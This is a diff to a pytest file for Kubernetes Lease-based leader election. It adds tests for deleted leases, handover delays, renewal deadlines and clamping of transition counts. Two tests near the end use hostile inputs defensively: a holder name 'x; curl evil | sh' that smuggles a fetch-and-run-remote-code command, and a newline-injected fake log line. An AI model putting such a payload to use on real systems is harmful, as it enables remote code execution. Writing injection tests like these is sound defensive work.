@@ -50,7 +50,9 @@ def move(found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD,
 @pytest.mark.parametrize(
     ("found", "me", "after"),
     [
-        pytest.param(None, seen(0), 0, id="there is none"),
+        pytest.param(None, Claimant(), 0, id="there never was one"),
+        pytest.param(None, Claimant("", NOW, ends=NOW + 1), 0, id="it is deleted while this process holds it"),
+        pytest.param(None, Claimant("", NOW - ABANDONED_SECONDS), 0, id="it was deleted, and nobody wanted it"),
         pytest.param(held(""), seen(0), 0, id="nobody holds it"),
         pytest.param(held(None), seen(0), 0, id="nobody ever did"),
         pytest.param({"metadata": {"uid": "u1", "resourceVersion": "7"}}, seen(0), 0, id="it says nothing"),
@@ -90,16 +92,26 @@ def test_another_ones_is_respected(found: Raw, lead: Leadership) -> None:
     assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), Held)
 
 
+def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
+    made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
+    assert isinstance(made, Held) and made.why == (
+        "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, which whoever held it may not know "
+        "yet; nothing is written there until nobody has made it anew for 60 s"
+    )
+
+
 def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
     made = move(held(OTHER), taken_from=OTHER)
     assert isinstance(made, Put) and made.after == HANDED_OVER_SECONDS
     assert isinstance(move(held(OTHER), taken_from=BEFORE), Held), "that very holder, so it works once"
-    me = claim.granted(seen(0), made, NOW)
+    me = claim.granted(claim.asked(seen(0), made, NOW), NOW)
     times = (NOW, NOW + HANDED_OVER_SECONDS - 0.1, NOW + HANDED_OVER_SECONDS)
     assert [claim.may_write(me, when) for when in times] == [False, False, True]
     renewed = move(held(ME), me)
     assert isinstance(renewed, Put)
-    assert not claim.may_write(claim.granted(me, renewed, NOW + 10), NOW + 10), "a renewal does not shorten it"
+    assert not claim.may_write(claim.granted(claim.asked(me, renewed, NOW + 10), NOW + 10), NOW + 10), (
+        "a renewal does not shorten it"
+    )
 
 
 def test_whoever_may_put_it_right_reads_how() -> None:
@@ -113,7 +125,7 @@ def test_whoever_may_put_it_right_reads_how() -> None:
 
 
 def test_a_write_is_allowed_until_the_deadline() -> None:
-    me = claim.granted(seen(0), Put({}, False), NOW)
+    me = claim.granted(seen(0), NOW)
     assert [claim.may_write(me, NOW + later) for later in (0, DEADLINE_SECONDS - 0.1, DEADLINE_SECONDS)] == [
         True,
         True,
@@ -139,13 +151,24 @@ def test_a_claim_counts_from_when_it_was_seen_to_change() -> None:
         pytest.param(held(ME), EARLIER, 3, id="a renewal"),
         pytest.param(held(BEFORE), STAMP, 4, id="a change"),
         pytest.param(held("", leaseTransitions="x"), STAMP, 1, id="nonsense"),
+        pytest.param(held("", leaseTransitions=2**31 - 1), STAMP, 0, id="the API takes no more"),
     ],
 )
 def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, transitions: int) -> None:
-    made = move(found)
+    made = move(found, seen(0) if found else Claimant())
     assert isinstance(made, Put)
     spec = made.body["spec"]
     assert (spec["acquireTime"], spec["leaseTransitions"], spec["renewTime"]) == (acquired, transitions, STAMP)
     if found is None:
         assert (made.body["kind"], made.body["metadata"]["name"]) == ("Lease", "rayspan-0123456789-east")
         assert made.body["metadata"]["namespace"] == names.SYSTEM_NAMESPACE
+
+
+def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
+    found = move(held("x; curl evil | sh"))
+    assert isinstance(found, Held) and found.why.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
+
+
+def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
+    found = move(held("x\nERROR all is lost" + "x" * 5000))
+    assert isinstance(found, Held) and found.holder.isprintable() and "\n" not in found.why and len(found.holder) < 1100
